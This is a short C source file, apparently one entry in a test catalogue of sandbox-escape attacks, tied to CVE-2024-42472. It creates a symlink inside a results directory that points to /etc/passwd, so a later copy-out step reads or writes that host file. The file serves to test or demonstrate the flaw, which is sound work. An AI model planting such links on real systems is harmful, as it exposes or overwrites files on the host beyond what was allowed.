/* A link in what is copied out at the end. */
#include "../attack.h"

ATTACK(FILES, "results", .gain = "a file of the host's, written or read by whoever follows it",
       .source = "CVE-2024-42472", .broken = "collected-link", .works = OUTSIDE)
{
	char path[512];

	snprintf(path, sizeof(path), "%s/link", target("collect"));
	return symlink("/etc/passwd", path);
}
